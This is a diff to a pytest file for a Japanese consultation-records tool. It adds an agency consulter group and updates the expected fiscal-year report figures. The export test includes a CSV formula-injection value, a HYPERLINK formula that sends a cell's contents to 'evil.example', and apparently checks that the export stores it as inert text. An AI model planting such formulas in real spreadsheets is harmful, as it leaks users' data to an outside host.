@@ -15,6 +15,7 @@ import pytest
 pytestmark = pytest.mark.slow
 
 VOLUNTEER = "ボランティア希望（活動）者からの相談"
+AGENCY_GROUP = "関係機関からの相談"
 
 
 def fieldbot(tmp_path: Path, *args: str) -> subprocess.CompletedProcess[str]:
@@ -32,6 +33,7 @@ def write_files(tmp_path: Path) -> tuple[Path, Path]:
         "2019,agency,子ども政策課,9",
         "2019,agency,高齢者支援課,11",
         "2019,agency,kosha,1",
+        f"2019,consulter,{AGENCY_GROUP},21",
         f"2019,consulter,{VOLUNTEER},19",
         f"2019,consulter_category,{VOLUNTEER}/寄付（寄贈）したい,6",
         "2019,consulter_category,volunteer/volunteer,5",
@@ -40,17 +42,26 @@ def write_files(tmp_path: Path) -> tuple[Path, Path]:
     ]
     baseline.write_bytes(("\n".join(rows) + "\n").encode("cp932"))  # Excel's Japanese CSV
     records = tmp_path / "records.csv"
-    lines = ["kind,date,staff,area,activity,destination,channel,consulter,consulter_category,topic,agencies,at_outing"]
+    lines = [
+        "kind,date,staff,area,activity,destination,channel,consulter,consulter_category,topic,agencies,at_outing,"
+        "from_agency"
+    ]
     categories = ["donate"] * 10 + ["volunteer"] * 6 + ["worries"] * 6 + ["other"] * 2
-    agencies = ["子ども政策課"] * 12 + ["elderly"] * 9 + ["健康課", "福祉公社"]
     for i, category in enumerate(categories):
-        agency = agencies[i] if i < len(agencies) else ""
         channel, at_outing = ("出向いた先", "yes") if i % 3 == 0 else ("電話", "no")
         lines.append(
-            f"consultation,2020/{4 + i % 9}/1,山田 花子,境南町,,,{channel},volunteer,{category},,{agency},{at_outing}"
+            f"consultation,2020/{4 + i % 9}/1,山田 花子,境南町,,,{channel},volunteer,{category},,,{at_outing},"
         )
+    # Consultations from agencies: the agency that consulted in the older column agencies (one agency on a row of
+    # this group) or in from_agency.
+    for i, agency in enumerate(["子ども政策課"] * 12 + ["elderly"] * 9):
+        lines.append(
+            f"consultation,2020/{4 + i % 9}/2,山田 花子,境南町,,,電話,agency,,居場所づくりに関する事,{agency},,"
+        )
+    for agency in ("健康課", "福祉公社"):
+        lines.append(f"consultation,2020/5/3,山田 花子,,,,,{AGENCY_GROUP},,その他,,,{agency}")
     for i in range(27):
-        lines.append(f"outing,2020-06-{1 + i:02d},山田 花子,kyonan,outing,高齢者サロン,,,,,,")
+        lines.append(f"outing,2020-06-{1 + i:02d},山田 花子,kyonan,outing,高齢者サロン,,,,,,,")
     records.write_text("\ufeff" + "\r\n".join(lines) + "\r\n", encoding="utf-8")  # UTF-8 with BOM
     return baseline, records
 
@@ -67,11 +78,11 @@ def test_an_imported_baseline_and_a_year_of_records_give_the_published_fiscal_ye
     for line in (
         "【集計】令和2年度",
         "比較：令和元年度",
-        # These rows name agencies on volunteers' consultations: referrals (つなぎ先), which the baseline
-        # of the year before does not have; its 関係機関別 (who consulted) fell to nothing this year.
-        "・子ども政策課 12件 (新)",
-        "・高齢者支援課 9件 (新)",
-        "・子ども政策課 0件 (-9件)",
+        "・子ども政策課 12件 (+3件)",
+        "・高齢者支援課 9件 (-2件)",
+        "・健康課 1件 (新)",
+        "・福祉公社 1件 (±0件)",
+        f"■ {AGENCY_GROUP} 23件（+2件）",
         f"■ {VOLUNTEER} 24件（+5件）",
         "1位：寄付（寄贈）したい 10件（+4件）",
         "2位：ボランティアしたい 6件（+1件）",
@@ -85,24 +96,26 @@ def test_an_imported_baseline_and_a_year_of_records_give_the_published_fiscal_ye
     report = json.loads(fieldbot(tmp_path, "report", "--fy", "2020", "--format", "json").stdout)
     assert report["period"] == {"start": "2020-04-01", "end": "2021-03-31", "label": "令和2年度"}
     assert report["compare"] == {"start": "2019-04-01", "end": "2020-03-31", "label": "令和元年度"}
-    assert report["outing_share"] == round(8 / 24, 4)
-    referral = [
-        (r["code"], r["count"], r["previous"], r["delta"], r["rank"], r["new"])
-        for r in report["dimensions"]["referral"]
+    assert report["outing_share"] == round(8 / 47, 4)
+    agency = [
+        (r["code"], r["count"], r["previous"], r["delta"], r["rank"], r["new"]) for r in report["dimensions"]["agency"]
     ]
-    assert referral == [
-        ("children", 12, 0, 12, 1, True),
-        ("elderly", 9, 0, 9, 2, True),
+    assert agency == [
+        ("children", 12, 9, 3, 1, False),
+        ("elderly", 9, 11, -2, 2, False),
         ("health", 1, 0, 1, 3, True),
-        ("kosha", 1, 0, 1, 3, True),
+        ("kosha", 1, 1, 0, 3, False),
     ]
-    (volunteer,) = report["dimensions"]["consulter"]
+    assert sum(r["count"] for r in report["dimensions"]["topic"]) == 23  # both lists add up to the group
+    assert report["dimensions"]["referral"] == []  # none of these consultations was referred on
+    volunteer, agency_group = report["dimensions"]["consulter"]
     assert (volunteer["code"], volunteer["count"], volunteer["previous"], volunteer["delta"]) == (
         "volunteer",
         24,
         19,
         5,
     )
+    assert (agency_group["code"], agency_group["count"], agency_group["delta"]) == ("agency", 23, 2)
     assert [(c["code"], c["rank"], c["delta"], c["new"]) for c in volunteer["categories"]] == [
         ("donate", 1, 4, False),
         ("volunteer", 2, 1, False),
@@ -154,14 +167,14 @@ def test_an_export_imported_again_adds_nothing_and_its_cells_are_text(tmp_path: 
         assert result.returncode == 0, result.stdout + result.stderr
     exported = tmp_path / "fy2020.csv"
     result = fieldbot(tmp_path, "export", "--fy", "2020", "--format", "csv", "--out", str(exported))
-    assert result.returncode == 0 and "令和2年度の記録52件を" in result.stdout, result.stderr
+    assert result.returncode == 0 and "令和2年度の記録75件を" in result.stdout, result.stderr
     with exported.open(encoding="utf-8-sig", newline="") as source:
         rows = list(csv.DictReader(source))
-    assert {r["staff"] for r in rows} == {"山田 花子", '\'=HYPERLINK("http://evil.example/?"&D2,"x")'}
+    assert {r["担当者"] for r in rows} == {"山田 花子", '\'=HYPERLINK("http://evil.example/?"&D2,"x")'}
 
     again = fieldbot(tmp_path, "import", "records", str(exported))
     assert again.returncode == 0, again.stdout + again.stderr
-    assert "52件はすでにデータベースにある記録（同じ record_id）なので、飛ばしました" in again.stdout
+    assert "75件はすでにデータベースにある記録（同じ record_id）なので、飛ばしました" in again.stdout
     twice = fieldbot(tmp_path, "import", "records", str(exported))
     assert twice.returncode == 1 and "このファイルは取り込み済みです" in twice.stdout
     lines = fieldbot(tmp_path, "report", "--fy", "2020").stdout.splitlines()
